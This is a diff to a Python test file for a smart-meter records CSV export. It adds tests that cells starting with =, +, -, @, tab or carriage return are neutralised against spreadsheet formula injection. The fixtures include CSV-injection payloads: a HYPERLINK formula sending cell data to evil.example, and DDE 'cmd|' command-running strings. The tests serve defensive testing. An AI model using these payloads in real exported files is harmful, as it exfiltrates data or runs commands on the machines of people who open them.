@@ -2,8 +2,10 @@
 
 The report must be byte for byte the CSV that the item-by-item path gives
 (`iter_own_report` -> `domain.records.item` -> `write_csv` below): same header, same
-values, same quoting, same times; and it holds the viewer's own records only (SPEC
-section 1 rule 7), whatever else the viewer may see under MP141.
+values, same quoting, same times, and the same formula neutralisation (SPEC section 5: a
+cell beginning with =, +, -, @, tab or carriage return gets a leading '); and it holds the
+viewer's own records only (SPEC section 1 rule 7), whatever else the viewer may see under
+MP141.
 """
 from __future__ import annotations
 
@@ -12,13 +14,13 @@ import io
 
 import pytest
 
-from servicetrail.domain.model import SatRecord
+from servicetrail.domain.model import Device, SatRecord
 from servicetrail.domain.times import parse_time
 from servicetrail.domain.visibility import Viewer
 from servicetrail.domain.records import REPORT_FIELDS
 from servicetrail.store.export import CHUNK_BYTES, csv_field, csv_header, own_report_csv
 from servicetrail.store.queries import iter_own_report
-from servicetrail.store.writer import append_records
+from servicetrail.store.writer import append_records, load_device
 
 from tests import personas as P
 
@@ -37,16 +39,36 @@ AWKWARD_PAYLOADS = {
     "empty": "",
     "only_quote": '"',
     "xml": '<?xml version="1.0" encoding="UTF-8"?>\n<sr:Request schemaVersion="5.1">x</sr:Request>',
+    # formulas a spreadsheet would run, one per starting character of the rule
+    "formula_eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "formula_plus": "+1+cmd|' /C calc'!A0",
+    "formula_minus": "-2+3",
+    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula_tab": "\t=1+1",
+    "formula_cr": "\r\n=1+1",  # with a line feed: Python < 3.11.9 leaves a bare CR unquoted
+    "formula_eq_quoted": '=1+1,"x"',
+    # not formulas: left as they are
+    "apostrophe": "'already",
+    "equals_inside": "a=b",
+    "space_then_eq": " =1",
 }
+FORMULA_STARTS = "=+-@\t\r"  # SPEC section 5 (OWASP's rule against CSV injection)
+HOSTILE_DEVICE = "00-DB-12-34-56-78-90-EE"
+
+
+def spreadsheet_safe(value) -> str:
+    text = "" if value is None else str(value)
+    return "'" + text if text and text[0] in FORMULA_STARTS else text
 
 
 def write_csv(items, out, fields=REPORT_FIELDS) -> int:
-    """The reference: items as the API shows them, written by Python's csv module."""
+    """The reference: items as the API shows them, neutralised by the SPEC's rule and
+    written by Python's csv module."""
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(fields)
     count = 0
     for entry in items:
-        writer.writerow(["" if entry.get(f) is None else entry.get(f) for f in fields])
+        writer.writerow([spreadsheet_safe(entry.get(f)) for f in fields])
         count += 1
     return count
 
@@ -68,6 +90,12 @@ def _awkward_records() -> list[SatRecord]:
                   P.UNKNOWN_DEVICE, "I99", ""),
         SatRecord(parse_time("2025-05-01T10:00:01Z"), "response", np_odd, "99.9", P.NP_IS,
                   P.UNKNOWN_DEVICE, "E4", "failed, \"badly\""),
+        # formulas in the fields a DUIS message or the registry fills: SRV, response code,
+        # device type
+        SatRecord(parse_time("2025-05-03T10:00:00Z"), "response", f"{P.NP_IS}:{HOSTILE_DEVICE}:1", "=1+1",
+                  P.NP_IS, HOSTILE_DEVICE, "-2+3", "@SUM(1)"),
+        SatRecord(parse_time("2025-05-03T10:00:01Z"), "response", f"{P.NP_IS}:{HOSTILE_DEVICE}:2", "+4.1",
+                  P.NP_IS, HOSTILE_DEVICE, "@E4", "\t"),
         # another User's traffic to NORTHPOWER's SMETS1 meter: MP141-visible to NORTHPOWER,
         # never in its report
         SatRecord(parse_time("2025-05-02T10:00:00Z"), "request", f"{P.LK_OU}:{P.ESME_S1}:300", "4.1.1",
@@ -80,6 +108,7 @@ def _awkward_records() -> list[SatRecord]:
 def world(engine):
     world = P.load_personas(engine)
     with engine.begin() as conn:
+        load_device(conn, Device(HOSTILE_DEVICE, "=2+5+cmd|'/C'", 2))
         append_records(conn, _awkward_records())
     return world
 
@@ -114,7 +143,7 @@ def test_awkward_values_survive_and_only_own_records_are_there(engine, world):
     assert tuple(parsed[0]) == REPORT_FIELDS and rows == len(parsed) - 1
     items = [dict(zip(REPORT_FIELDS, row)) for row in parsed[1:]]
     assert {i["user_id"] for i in items} == {P.NP_IS} and {i["access"] for i in items} == {"own"}
-    assert set(AWKWARD_PAYLOADS.values()) <= {i["payload"] for i in items}
+    assert {spreadsheet_safe(v) for v in AWKWARD_PAYLOADS.values()} <= {i["payload"] for i in items}
     assert "looker's secret" not in got.decode()  # MP141-visible to NORTHPOWER, but not its own
     by_time = {i["logged_at"]: i for i in items}
     assert set(by_time) >= {"2025-05-01T10:00:00.123456Z", "2025-05-01T10:00:00.000001Z", "2025-05-01T10:00:01Z"}
@@ -169,6 +198,34 @@ def test_large_reports_stream_in_whole_row_chunks(engine, world):
 @pytest.mark.parametrize("value, field", [
     (None, ""), ("", ""), ("plain", "plain"), (7, "7"), ("a,b", '"a,b"'), ('a"b', '"a""b"'),
     ("a\nb", '"a\nb"'), ("a\rb", '"a\rb"'), (" a ", " a "),
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", '"\'\rx"'),
+    ('=a,"b"', '"\'=a,""b"""'), ("a=1", "a=1"), ("'=1", "'=1"), (-5, "'-5"),
 ])
 def test_csv_field(value, field):
     assert csv_field(value) == field
+
+
+def test_every_formula_start_is_neutralised_and_nothing_else(engine, world):
+    """SPEC section 5: in CSV a cell beginning with =, +, -, @, tab or carriage return gets a
+    leading '; the rest of the text, and every other cell, is as stored."""
+    got, _, _ = exported(engine, world.viewer(P.NORTHPOWER))
+    rows = [dict(zip(REPORT_FIELDS, row)) for row in csv.reader(io.StringIO(got.decode(), newline=""))][1:]
+    payloads = {r["payload"] for r in rows}
+    for name, payload in AWKWARD_PAYLOADS.items():
+        wanted = "'" + payload if name.startswith("formula") else payload
+        assert wanted in payloads, name
+    hostile = [r for r in rows if r["device_id"] == HOSTILE_DEVICE]
+    assert {(r["srv"], r["response_code"], r["payload"]) for r in hostile} == {
+        ("'=1+1", "'-2+3", "'@SUM(1)"), ("'+4.1", "'@E4", "'\t")}
+    assert {r["device_type"] for r in hostile} == {"'=2+5+cmd|'/C'"}
+    unsafe = [(r["id"], k, v) for r in rows for k, v in r.items() if v and v[0] in FORMULA_STARTS]
+    assert unsafe == []
+
+
+def test_json_lines_keep_every_value_as_stored(engine, world):
+    """The neutralisation is for spreadsheets only: the items (JSON Lines, the API) are exact."""
+    with engine.connect() as conn:
+        items = list(iter_own_report(conn, world.viewer(P.NORTHPOWER), *EVER))
+    assert set(AWKWARD_PAYLOADS.values()) <= {i["payload"] for i in items}
+    assert {(i["srv"], i["response_code"], i["device_type"]) for i in items if i["device_id"] == HOSTILE_DEVICE} == {
+        ("=1+1", "-2+3", "=2+5+cmd|'/C'"), ("+4.1", "@E4", "=2+5+cmd|'/C'")}
